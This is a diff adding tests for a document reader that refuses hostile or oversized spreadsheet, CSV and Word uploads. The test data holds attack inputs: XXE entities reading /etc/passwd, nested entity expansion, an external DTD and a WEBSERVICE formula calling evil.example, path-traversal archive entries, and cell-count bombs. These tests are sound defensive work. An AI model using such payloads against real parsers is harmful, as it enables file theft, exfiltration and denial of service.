@@ -2,7 +2,7 @@ import { strToU8, zipSync } from 'fflate'
 import { readDocument } from '../../../src/transfer/documents/readDocument'
 import { LIMITS } from '../../../src/transfer/documents/refusal'
 import type { Limits } from '../../../src/transfer/documents/refusal'
-import { asCsv, asDocx, asXlsx, pack, table, words, workbook } from './files'
+import { asCsv, asDocx, asXlsx, pack, table, wordFile, words, workbook } from './files'
 
 const PLAN = [words('Docks performance'), table(['Measure', 'Target'], ['Ropes mended', '4'])]
 
@@ -78,6 +78,56 @@ describe('a file is refused', () => {
   ])('of more cells than the limit (%s)', async (name, bytes) => {
     expect(await refusal(name, bytes, { ...LIMITS, cells: 3 })).toBe('too many cells')
     expect(await refusal(name, bytes, { ...LIMITS, cells: 4 })).toBe('read')
+  })
+
+  const rows = (count: number, cell: (row: number) => string) =>
+    Array.from({ length: count }, (_, row) => `<row r="${row + 1}">${cell(row + 1)}</row>`).join('')
+
+  it.each([
+    ['rows of one cell far to the right', 'plan.xlsx', workbook(rows(5_000, (row) => `<c r="IV${row}"><v>1</v></c>`))],
+    ['rows of commas', 'plan.csv', strToU8(`1${','.repeat(400)}\n`.repeat(3_000))],
+    [
+      'Word cells that each span hundreds of columns',
+      'plan.docx',
+      wordFile(
+        `<w:tbl>${`<w:tr>${'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc>'.repeat(50)}</w:tr>`.repeat(400)}</w:tbl>`,
+      ),
+    ],
+  ])('that would be far larger laid out than it is: %s', async (_what, name, bytes) => {
+    expect(await refusal(name, bytes)).toBe('too many cells')
+  })
+
+  it('that claims a million rows and has a few is read as the few', async () => {
+    const claims = `<dimension ref="A1:XFD1048576"/>${rows(2, (row) => `<c r="A${row}"><v>${row}</v></c><c r="B${row}"><v>1</v></c>`)}<row r="1048576"><c r="A1048576"><v>9</v></c><c r="B1048576"><v>9</v></c></row>`
+    expect(await refusal('plan.xlsx', workbook(claims))).toBe('read')
+  })
+
+  it.each([
+    ['an entity from elsewhere', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'],
+    [
+      'entities within entities',
+      '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY e "&b;&b;&b;">]>',
+      '&e;',
+    ],
+    ['a document type from elsewhere', '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">', '&e;'],
+  ])('with %s: nothing is fetched or unfolded', async (_what, type, entity) => {
+    const body = `<w:p><w:r><w:t>${entity}</w:t></w:r></w:p>`
+    const xml = `<?xml version="1.0"?>${type}<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`
+    expect(await refusal('plan.docx', pack({ 'word/document.xml': xml }))).toBe('truncated')
+  })
+
+  it.each(['../../../etc/passwd', '/etc/passwd', 'C:\\Windows\\win.ini', 'xl/../../secret'])(
+    'when a part in it is called “%s”, and nothing is written anywhere',
+    async (path) => {
+      expect(await refusal('plan.xlsx', asXlsx(PLAN, { [path]: 'root' }))).toMatch(/^(?:read|truncated)$/)
+    },
+  )
+
+  it('never: a formula is what it last showed, and is not worked out', async () => {
+    const cell = '<c r="A1" t="str"><f>WEBSERVICE("https://evil.example")</f><v>shown</v></c><c r="B1"><v>1</v></c>'
+    const read = await readDocument('plan.xlsx', workbook(`<row r="1">${cell}</row>`))
+    expect(JSON.stringify(read)).toContain('shown')
+    expect(JSON.stringify(read)).not.toContain('WEBSERVICE')
   })
 
   it('in words that say what to do', async () => {
